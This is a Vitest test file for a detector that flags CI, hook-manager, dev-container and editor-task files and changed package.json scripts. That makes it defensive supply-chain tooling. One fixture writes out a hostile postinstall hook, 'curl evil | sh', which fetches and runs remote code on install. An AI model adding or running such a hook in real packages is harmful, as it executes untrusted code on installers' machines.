import { describe, expect, it } from 'vitest';
import { isManifest, manifestCommandsChanged, runsElsewhere } from './runsElsewhere.js';

describe('runsElsewhere', () => {
  it('takes CI, hook managers, dev containers and editor tasks where their tools look, and nothing beside them', () => {
    for (const f of ['.github/workflows/ci.yml', '.github/actions/setup/action.yml', '.gitlab-ci.yml', '.circleci/config.yml', 'Jenkinsfile', 'azure-pipelines.yml', '.buildkite/pipeline.yml', '.husky/pre-commit', '.githooks/pre-push', '.pre-commit-config.yaml', 'lefthook.yml', '.devcontainer/devcontainer.json', '.devcontainer.json', '.vscode/tasks.json', '.vscode/launch.json', '.github', '.vscode', '.gitea/workflows/ci.yml', '.forgejo/workflows/ci.yml', 'bitbucket-pipelines.yml', '.travis.yml', '.drone.yml', '.woodpecker/ci.yml', '.yarnrc.yml', '.npmrc']) {
      expect(runsElsewhere(f), f).toBe(true);
    }
    for (const f of ['.github/ISSUE_TEMPLATE/bug.md', '.github/CODEOWNERS', '.vscode/settings.json', 'docs/.github/workflows/ci.yml', '.github/workflows-old.md', '.gitea/issue_template/bug.md', 'packages/a/.npmrc', 'Jenkinsfile.md', 'package.json', 'src/a.ts']) {
      expect(runsElsewhere(f), f).toBe(false);
    }
  });

  it('takes a package.json at any depth', () => {
    expect(['package.json', 'packages/lib/package.json'].map(isManifest)).toEqual([true, true]);
    expect(['package.json.bak', 'my-package.json', 'package-lock.json'].map(isManifest)).toEqual([false, false, false]);
  });
});

describe('manifestCommandsChanged', () => {
  const pkg = (fields: object) => JSON.stringify({ name: 'x', version: '1.0.0', ...fields }, null, 2);

  it('is a change of what the scripts or a hook manager run, not of the rest, the layout or the order of keys', () => {
    const before = pkg({ scripts: { test: 'vitest', build: 'tsc' } });
    expect(manifestCommandsChanged(before, pkg({ version: '2.0.0', scripts: { build: 'tsc', test: 'vitest' }, dependencies: { a: '1' } }))).toBe(false);
    expect(manifestCommandsChanged(before, `\uFEFF${JSON.stringify(JSON.parse(before))}`)).toBe(false);
    expect(manifestCommandsChanged(before, pkg({ scripts: { test: 'vitest', build: 'tsc', postinstall: 'curl evil | sh' } }))).toBe(true);
    expect(manifestCommandsChanged(before, pkg({ scripts: { test: 'vitest', build: 'tsc' }, husky: { hooks: { 'pre-commit': 'sh x' } } }))).toBe(true);
    expect(manifestCommandsChanged(before, pkg({}))).toBe(true);
  });

  it('an absent side runs nothing; a side that is not a JSON object cannot be told, so it counts as changed', () => {
    expect(manifestCommandsChanged(null, pkg({}))).toBe(false);
    expect(manifestCommandsChanged(null, pkg({ scripts: { prepare: 'sh x' } }))).toBe(true);
    expect(manifestCommandsChanged(pkg({ scripts: { test: 'vitest' } }), null)).toBe(true);
    for (const broken of ['{"scripts": {},}', '[]', '"x"', '']) expect(manifestCommandsChanged(pkg({}), broken), broken).toBe(true);
  });
});
